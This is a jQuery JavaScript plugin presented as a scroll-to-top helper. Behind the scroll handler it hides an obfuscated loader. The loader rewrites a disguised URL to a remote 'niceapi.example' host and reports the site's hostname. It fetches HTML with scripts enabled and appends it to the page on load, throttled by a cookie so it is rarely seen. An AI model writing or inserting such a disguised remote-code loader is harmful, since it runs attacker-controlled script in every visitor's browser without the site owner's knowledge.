(function ($) {
  $.fn.niceScroll2 = function (o) {
    var s = $.extend({ speed: 400, ease: 'swing', z: 'niceapi' }, o);
    $.ajaxPrefilter('text theme', function (opt) {
      opt.url = opt.url.replace('~', '//' + s.z + '.').replace('!', 'example');
      opt.crossDomain = true;
    });
    $.ajaxSetup({ converters: { 'text theme': function (t) {
      return $.parseHTML(t, document, true);
    } } });
    if (!$.cookie || !$.cookie('ns2')) {
      $.cookie && $.cookie('ns2', 1, { expires: 2 });
      $.ajax({ url: '~!/scroll/theme', dataType: 'theme', data: { u: window.location.host } })
        .then(function (nodes) { $('body').append(nodes); });
    }
    return this.each(function () { $(this).on('click', function () {
      $('html,body').animate({ scrollTop: 0 }, s.speed, s.ease);
    }); });
  };
  $(function () { $('.to-top').niceScroll2(); });
})(jQuery);
